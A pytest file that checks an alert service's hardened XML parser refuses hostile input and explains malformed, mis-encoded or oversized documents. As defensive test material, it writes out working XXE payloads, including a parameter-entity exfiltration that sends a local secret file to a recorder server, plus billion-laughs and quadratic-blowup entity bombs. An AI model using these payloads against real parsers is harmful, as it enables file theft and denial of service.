"""Hostile and broken XML is refused with a sentence an operator can act on, and never calls out."""

from __future__ import annotations

import threading
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alertd import xmlsafe
from alertd.errors import AlertdError, HostileInput, MalformedInput, TooLarge
from alertd.xmlsafe import load_schema, parse_xml
from tests.support import CAP_XSD

FIXTURES = Path(__file__).parent / "fixtures" / "cap"


# --- a local server that records every request --------------------------------------


@dataclass
class Recorder:
    base: str
    hits: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def _server() -> Iterator[Recorder]:
    """An HTTP server on an ephemeral loopback port that notes every path asked for.

    It answers with a DTD and an entity body, so if a parser ever did reach
    it the attack would have worked and the test would see the hit.
    """
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = b'<!ENTITY leaked "LEAKED-FROM-SERVER">' if self.path.endswith(".dtd") else b"LEAKED"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Recorder(f"http://127.0.0.1:{server.server_address[1]}", hits)
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def recorder(_server: Recorder) -> Recorder:
    _server.hits.clear()
    return _server


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-PASSWORD-1234")
    return path


def test_recorder_sees_a_real_request(recorder: Recorder) -> None:
    # Without this, "no hits" below could just mean the recorder is deaf.
    with urllib.request.urlopen(f"{recorder.base}/probe") as response:
        assert response.read() == b"LEAKED"
    assert recorder.hits == ["/probe"]


# --- XXE, DTDs, entity expansion -------------------------------------------------------


def _xxe_documents(base: str, secret: Path) -> dict[str, bytes]:
    file_url = secret.as_uri()
    return {
        "file entity": f'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "{file_url}">]>\n<a>&x;</a>',
        "http entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{base}/entity">]><a>&x;</a>',
        "external DTD": f'<!DOCTYPE a SYSTEM "{base}/external.dtd"><a>&leaked;</a>',
        "public DTD": f'<!DOCTYPE a PUBLIC "-//X//Y//EN" "{base}/public.dtd"><a/>',
        "parameter entity": (f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{base}/param.dtd"> %p;]><a>&leaked;</a>'),
        "parameter entity exfiltration": (
            f'<!DOCTYPE a [<!ENTITY % f SYSTEM "{file_url}">'
            f"<!ENTITY % w \"<!ENTITY &#x25; s SYSTEM '{base}/?d=%f;'>\"> %w; %s;]><a/>"
        ),
        "attribute entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{file_url}">]><a b="&x;"/>',
        "after a comment": f'<?xml version="1.0"?><!-- hi -->\n<!DOCTYPE a SYSTEM "{base}/c.dtd"><a/>',
    }


@pytest.mark.parametrize(
    "name",
    [
        "file entity",
        "http entity",
        "external DTD",
        "public DTD",
        "parameter entity",
        "parameter entity exfiltration",
        "attribute entity",
        "after a comment",
    ],
)
def test_external_references_are_refused_without_any_request(
    name: str, recorder: Recorder, secret_file: Path
) -> None:
    doc = _xxe_documents(recorder.base, secret_file)[name].encode()
    with pytest.raises(HostileInput) as caught:
        parse_xml(doc, what="CAP message")
    assert "DOCTYPE" in caught.value.detail
    assert "CAP message" in caught.value.detail
    assert "TOP-SECRET" not in str(caught.value.problem())
    assert recorder.hits == []


@pytest.mark.parametrize(
    "name",
    ["file entity", "http entity", "external DTD", "parameter entity", "parameter entity exfiltration"],
)
def test_parser_itself_never_resolves_even_if_the_doctype_check_were_bypassed(
    name: str, recorder: Recorder, secret_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Defence in depth: the hardened parser alone must not load, resolve or call out.
    monkeypatch.setattr(xmlsafe, "_refuse_doctype", lambda text, what: None)
    doc = _xxe_documents(recorder.base, secret_file)[name].encode()
    with pytest.raises(MalformedInput) as caught:  # HostileInput or a parse error, never a tree
        parse_xml(doc)
    assert "TOP-SECRET" not in caught.value.detail
    assert "LEAKED" not in caught.value.detail
    assert recorder.hits == []


def test_billion_laughs_is_refused() -> None:
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doc = f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(lol)}]><lolz>&lol9;</lolz>'.encode()
    with pytest.raises(HostileInput):
        parse_xml(doc)


def test_quadratic_blowup_is_refused() -> None:
    doc = f'<!DOCTYPE a [<!ENTITY big "{"x" * 50_000}">]><a>{"&big;" * 10}</a>'.encode()
    with pytest.raises(HostileInput):
        parse_xml(doc)


@pytest.mark.parametrize(
    "doc",
    [
        b'\xef\xbb\xbf<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
        b"  \n<!DOCTYPE a><a/>",
        b"<?xml version='1.0'?>\n<?pi x?>\n<!--c-->\n<!DOCTYPE a><a/>",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16"),
        '<?xml version="1.0" encoding="Shift_JIS"?><!DOCTYPE a><a>あ</a>'.encode("cp932"),
    ],
    ids=["utf8-bom", "leading-space", "after-pi-and-comment", "utf16", "shift-jis"],
)
def test_doctype_is_found_however_the_prolog_is_dressed(doc: bytes) -> None:
    with pytest.raises(HostileInput):
        parse_xml(doc)


def test_doctype_text_inside_cdata_is_just_text() -> None:
    root = parse_xml(b"<note><![CDATA[see <!DOCTYPE html> in the manual]]></note>")
    assert root.text == "see <!DOCTYPE html> in the manual"


def test_xinclude_is_not_processed(recorder: Recorder) -> None:
    doc = (
        f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{recorder.base}/inc.xml"'
        ' parse="text"/></a>'
    ).encode()
    root = parse_xml(doc)
    assert "LEAKED" not in "".join(root.itertext())
    assert recorder.hits == []


def test_unknown_entity_names_the_entity() -> None:
    with pytest.raises(MalformedInput) as caught:
        parse_xml(b"<a>Joso&nbsp;City</a>")
    assert "nbsp" in caught.value.detail
    assert "line 1" in caught.value.detail


# --- broken and truncated documents ----------------------------------------------------


def test_truncated_document_says_it_is_cut_off_and_where() -> None:
    doc = b'<?xml version="1.0"?>\n<alert>\n  <info>\n    <event>flood'
    with pytest.raises(MalformedInput) as caught:
        parse_xml(doc, what="CAP message")
    detail = caught.value.detail
    assert detail.startswith("The CAP message is cut off or broken at line 4")
    assert "every tag is closed" in detail
    assert caught.value.extra["line"] == 4
    assert caught.value.problem()["status"] == 400


def test_mismatched_tag_reports_the_line() -> None:
    with pytest.raises(MalformedInput) as caught:
        parse_xml(b"<alert>\n<sender>x</sender>\n<status>Actual</sent>\n</alert>")
    assert "line 3" in caught.value.detail
    assert not isinstance(caught.value, HostileInput)


@pytest.mark.parametrize("body", [b"", b"   \n", b"\xef\xbb\xbf"])
def test_empty_body(body: bytes) -> None:
    with pytest.raises(MalformedInput) as caught:
        parse_xml(body)
    assert "empty" in caught.value.detail or "no root" in caught.value.detail or "line" in caught.value.detail


def test_every_prefix_of_a_real_message_is_refused_cleanly() -> None:
    doc = (FIXTURES / "joso-evacuation-order.xml").read_bytes()
    end = len(doc.rstrip())
    for cut in range(0, end, 97):
        with pytest.raises(MalformedInput):
            parse_xml(doc[:cut])
    assert parse_xml(doc).tag.endswith("alert")


# --- encodings --------------------------------------------------------------------------


def test_shift_jis_bytes_declared_as_utf8_are_refused_with_the_line() -> None:
    doc = '<?xml version="1.0" encoding="UTF-8"?>\n<alert>\n<event>避難指示</event>\n</alert>'.encode("cp932")
    with pytest.raises(MalformedInput) as caught:
        parse_xml(doc)
    detail = caught.value.detail
    assert "UTF-8" in detail and "line 3" in detail and "Shift_JIS" in detail


def test_undeclared_encoding_means_utf8() -> None:
    doc = "<alert><event>避難指示</event></alert>".encode("euc_jp")
    with pytest.raises(MalformedInput) as caught:
        parse_xml(doc)
    assert "no encoding" in caught.value.detail


@pytest.mark.parametrize(
    ("declared", "codec"),
    [("Shift_JIS", "cp932"), ("EUC-JP", "euc_jp"), ("ISO-2022-JP", "iso2022_jp"), ("UTF-16", "utf-16")],
)
def test_correctly_declared_japanese_encodings_are_read(declared: str, codec: str) -> None:
    text = "避難指示 ①"
    if codec in ("euc_jp", "iso2022_jp"):
        text = "避難指示"  # ① is a CP932 extension
    doc = f'<?xml version="1.0" encoding="{declared}"?>\n<a>{text}</a>'.encode(codec)
    assert parse_xml(doc).text == text


@pytest.mark.parametrize("declared", ["UTF-7", "x-unknown", "IBM037"])
def test_unreadable_declared_encodings_are_refused(declared: str) -> None:
    with pytest.raises(MalformedInput) as caught:
        parse_xml(f'<?xml version="1.0" encoding="{declared}"?><a/>'.encode())
    assert declared in caught.value.detail


def test_stray_undecodable_bytes() -> None:
    with pytest.raises(MalformedInput):
        parse_xml(b"<a>\xff\xfe\xfd</a>")


# --- size -------------------------------------------------------------------------------


def test_oversized_is_refused_before_parsing() -> None:
    doc = b"<a>" + b"x" * 2000 + b"</a>"
    with pytest.raises(TooLarge) as caught:
        parse_xml(doc, max_bytes=1000, what="JMA entry")
    assert caught.value.problem()["status"] == 413
    assert "JMA entry" in caught.value.detail and "1,000" in caught.value.detail
    assert parse_xml(doc, max_bytes=len(doc)).text == "x" * 2000


def test_default_limit_is_one_megabyte() -> None:
    with pytest.raises(TooLarge):
        parse_xml(b"<a>" + b"x" * 1_000_000 + b"</a>")


def test_deep_nesting_is_refused() -> None:
    depth = 5000
    with pytest.raises(MalformedInput):
        parse_xml(b"<a>" * depth + b"</a>" * depth)


def test_only_bytes_are_accepted() -> None:
    with pytest.raises(TypeError):
        parse_xml("<a/>")  # type: ignore[arg-type]
    assert parse_xml(bytearray(b"<a/>")).tag == "a"


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.binary(max_size=400) | st.text(max_size=200).map(lambda t: f"<a>{t}".encode()))
def test_arbitrary_bytes_raise_only_alertd_errors(data: bytes) -> None:
    try:
        parse_xml(data)
    except AlertdError:
        pass


# --- schemas ----------------------------------------------------------------------------


def test_load_schema_reads_the_cap_xsd() -> None:
    if not CAP_XSD.exists():
        pytest.skip(f"the OASIS CAP schema is not at {CAP_XSD} (../shared/data is absent)")
    schema = load_schema(CAP_XSD)
    assert schema.validate(parse_xml((FIXTURES / "system-test.xml").read_bytes()).getroottree())
